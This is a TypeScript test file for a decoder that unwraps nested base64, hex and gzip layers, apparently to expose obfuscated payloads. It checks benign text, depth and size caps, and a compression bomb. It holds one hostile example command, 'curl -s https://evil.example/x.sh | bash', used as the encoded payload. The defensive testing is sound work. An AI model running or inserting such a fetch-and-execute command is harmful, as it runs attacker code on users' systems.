import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { decodeLayers } from './decode.ts';

const COMMAND = 'curl -s https://evil.example/x.sh | bash';
const base64 = (text: string) => Buffer.from(text).toString('base64');
const hex = (text: string) => Buffer.from(text).toString('hex');

describe('quiet', () => {
  it.each([
    [
      'words',
      'The responsibility for misunderstandings, characteristically, lies with internationalization.',
    ],
    [
      'identifiers',
      'getServerSideProps maxCompletionTokens AWS_SECRET_ACCESS_KEY __webpack_require__ XMLHttpRequest',
    ],
    [
      'paths',
      'src/surfaces/cli/verbs.ts /usr/local/share/ca-certificates node_modules/typescript/lib/lib.dom.d.ts',
    ],
    [
      'hashes',
      'da39a3ee5e6b4b0d3255bfef95601890afd80709 d41d8cd98f00b204e9800998ecf8427e sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==',
    ],
    ['UUIDs', '550e8400-e29b-41d4-a716-446655440000 f47ac10b-58cc-4372-a567-0e02b2c3d479'],
    [
      'numbers',
      '4111111111111111 5555555555554444 20240615123045678 1700000000000 12, 45, 67, 89, 100, 50, 61, 72',
    ],
    ['years and status codes', '2014, 2015, 2016, 2017, 2018, 2019 and [500, 502, 503, 504, 429]'],
    ['numbers of 24 digits', '234567345645432123456734 454647484950515253545556'],
    ['measurements', '[50, 60, 70, 80, 90, 100, 110, 120, 55, 65, 75, 85, 95, 105, 41]'],
    ['short ids', 'I2skOX5R, fn40JD1+, Kyt4OVkqJQ==, 7e7e34243d7e'],
    ['a calendar', '20 21 22 23 24 25 26 27 28 29 30 31 32 33 34'],
    ['addresses of network cards', '00:1a:2b:3c:4d:5e and 2001:0db8:85a3:0000:0000:8a2e:0370:7334'],
    [
      'minified code',
      '!function(e,t){"use strict";var n=e[0],r=/[\\xa0\\u2028\\u1680\\u2000-\\u200a]/g;for(;n<t.length;)n++}(window,["\\x1b[31m"]);',
    ],
    [
      'the ranges of a lexer',
      'var a="\\xaa\\xb5\\xba\\xc0-\\xd6\\xd8-\\xf6\\u0041-\\u005a\\u0370-\\u0374\\u0376\\u0377\\u037a-\\u037d\\u037f\\u0386";',
    ],
    [
      'everyday escapes',
      'a &amp; b &lt;c&gt; &nbsp;&nbsp;&nbsp;&nbsp; "\\u003cdiv\\u003e" \\n C:\\temp\\101 \\1 \\2 100%ab 50%',
    ],
    [
      'other languages',
      'Die Verantwortung liegt beim Benutzer. Zażółć gęślą jaźń. Kullanıcı tarafından çağrılır. Käyttäjä hyväksyy.',
    ],
    [
      'ciphers of a keyboard',
      'qwertyuiop asdfghjkl zxcvbnm hhhhhhhhhhhhhhhh aaaaaaaaaaaa lorem ipsum dolor sit amet',
    ],
    [
      'extensions that gain by rotation, far from words that are common rotated',
      'A png of rai and more words that keep the list far away from here, really far away: "uvh","uvi","uvm","uvp","uvs","uvu","viv","vob","xhvml","xvml"',
    ],
    ['a source map', '"mappings":"AAAA,SAASA,EAAKC,GACZ,OAAOA,QAAQ,GAAGC,SAASqH,OAAOrH,QAAQD,QAAQC"'],
    ['an image', iconOf()],
  ])('%s', (_name, text) => {
    expect(decodeLayers(text)).toEqual({ layers: [], capped: [] });
  });
});

/** A transparent pixel. */
function iconOf(): string {
  return 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
}

describe('limits', () => {
  const deep = [1, 2, 3, 4, 5].reduce((text) => base64(text), COMMAND);
  const many = Array.from({ length: 8 }, (_, at) => hex(`command number ${at}`)).join(' ');
  const long = base64('all work and no play '.repeat(100));

  it.each([
    { name: 'depth 4', text: deep, limits: {}, layers: 4, capped: ['depth'] },
    { name: 'depth 5', text: deep, limits: { maxDepth: 5 }, layers: 5, capped: [] },
    { name: '64 layers', text: many, limits: {}, layers: 8, capped: [] },
    { name: '5 layers', text: many, limits: { maxLayers: 5 }, layers: 5, capped: ['layers'] },
    { name: 'a MiB', text: long, limits: {}, layers: 1, capped: [] },
    { name: '100 bytes', text: long, limits: { maxBytes: 100 }, layers: 1, capped: ['bytes'] },
  ])('$name', ({ text, limits, layers, capped }) => {
    const decoding = decodeLayers(text, limits);
    expect({ layers: decoding.layers.length, capped: decoding.capped }).toEqual({ layers, capped });
  });

  it('cuts a layer at the last byte there is room for', () => {
    expect(decodeLayers(long, { maxBytes: 8 }).layers[0]?.text).toBe('all work');
  });

  it('does not unfold a bomb, nor a thousand', () => {
    const bomb = gzipSync(Buffer.alloc(20_000_000, 'a')).toString('base64');
    expect(decodeLayers(bomb)).toEqual({ layers: [], capped: ['bytes'] });
    const small = gzipSync('all work and no play '.repeat(40_000)).toString('base64');
    const { layers, capped } = decodeLayers(Array.from({ length: 1000 }, () => small).join(' '));
    expect([layers.length, capped]).toEqual([1, ['bytes']]);
  });

  it('counts every round of compression as depth', () => {
    const nested = (rounds: number) => {
      let data = Buffer.from(COMMAND);
      for (let round = 0; round < rounds; round++) data = gzipSync(data);
      return data.toString('base64');
    };
    expect(decodeLayers(nested(3)).layers.map(({ via, text }) => [via, text])).toEqual([
      [['base64', 'gzip', 'gzip', 'gzip'], COMMAND],
    ]);
    expect(decodeLayers(nested(4))).toEqual({ layers: [], capped: ['depth'] });
  });
});
